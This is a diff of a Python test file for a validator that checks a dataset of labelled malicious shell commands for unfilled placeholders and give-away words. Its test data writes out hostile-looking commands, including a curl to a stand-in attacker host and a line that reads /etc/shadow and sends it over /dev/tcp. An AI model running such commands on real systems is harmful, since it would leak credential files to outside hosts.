@@ -73,36 +73,44 @@ def test_other_datasets_may_have_other_categories(category: str) -> None:
     assert problems([malicious(category=category)], strict=True) == ()
 
 
-@pytest.mark.parametrize("category", ["File Read", "file_read", "fileread", "SHELL", "downlaod"])
-def test_a_misspelt_category_is_a_warning(category: str) -> None:
-    problem = only([malicious(category=category)])
-    assert (problem.severity, problem.field) == (Severity.WARNING, "category")
-    assert problem.message.startswith(f"{category!a} is nearly '")
+@pytest.mark.parametrize(
+    ("sample", "field", "message"),
+    [
+        *(
+            (malicious(category=name), "category", f"{name!a} is nearly '")
+            for name in ("File Read", "file_read", "fileread", "SHELL", "downlaod")
+        ),
+        *(
+            (malicious(command), "command", f"placeholder '{left}' was never filled in")
+            for command, left in (
+                ("cat /path/to/input-file", "/path/to/"),
+                ("curl http://attacker.com/x", "attacker.com"),
+                ("tee $TF", "$TF"),
+                ("wget ${URL}", "${URL}"),
+                ("gcore $PID", "$PID"),
+                ("docker cp $CONTAINER_ID:x .", "$CONTAINER_ID"),
+                ("ssh <user>@10.0.0.1", "<user>"),
+            )
+        ),
+        *(
+            (malicious(f"sh /tmp/my_{word}.sh"), "command", f"the word '{word}' gives the label")
+            for word in ("evil", "Backdoor", "malware", "payload", "exploit", "hack")
+        ),
+    ],
+)
+def test_what_is_suspect_is_a_warning_and_strictly_an_error(
+    sample: Sample, field: str, message: str
+) -> None:
+    problem = only([sample])
+    assert (problem.severity, problem.field) == (Severity.WARNING, field)
+    assert problem.message.startswith(message)
+    assert only([sample], strict=True).severity is Severity.ERROR
 
 
 def test_a_variable_that_the_command_sets_is_no_placeholder() -> None:
     assert problems([malicious("LFILE=/etc/shadow\ncat $LFILE")]) == ()
     problem = only([malicious("LFILE=/etc/shadow\ncat $LFILE >/dev/tcp/$RHOST/1")])
     assert problem.message == "placeholder '$RHOST' was never filled in"
-
-
-@pytest.mark.parametrize(
-    ("command", "placeholder"),
-    [
-        ("cat /path/to/input-file", "/path/to/"),
-        ("curl http://attacker.com/x", "attacker.com"),
-        ("tee $TF", "$TF"),
-        ("wget ${URL}", "${URL}"),
-        ("gcore $PID", "$PID"),
-        ("docker cp $CONTAINER_ID:x .", "$CONTAINER_ID"),
-        ("ssh <user>@10.0.0.1", "<user>"),
-    ],
-)
-def test_placeholders_are_warnings_and_strictly_errors(command: str, placeholder: str) -> None:
-    problem = only([malicious(command)])
-    assert problem.severity is Severity.WARNING
-    assert problem.message == f"placeholder '{placeholder}' was never filled in"
-    assert only([malicious(command)], strict=True).severity is Severity.ERROR
 
 
 @pytest.mark.parametrize(
@@ -119,13 +127,6 @@ def test_placeholders_are_warnings_and_strictly_errors(command: str, placeholder
 )
 def test_what_only_looks_like_a_problem(sample: Sample) -> None:
     assert problems([sample]) == ()
-
-
-@pytest.mark.parametrize("word", ["evil", "Backdoor", "malware", "payload", "exploit", "hack"])
-def test_tell_tale_words(word: str) -> None:
-    problem = only([malicious(f"sh /tmp/my_{word}.sh")])
-    assert problem.severity is Severity.WARNING
-    assert problem.message == f"the word '{word}' gives the label away"
 
 
 def test_duplicate_names_both_lines() -> None:
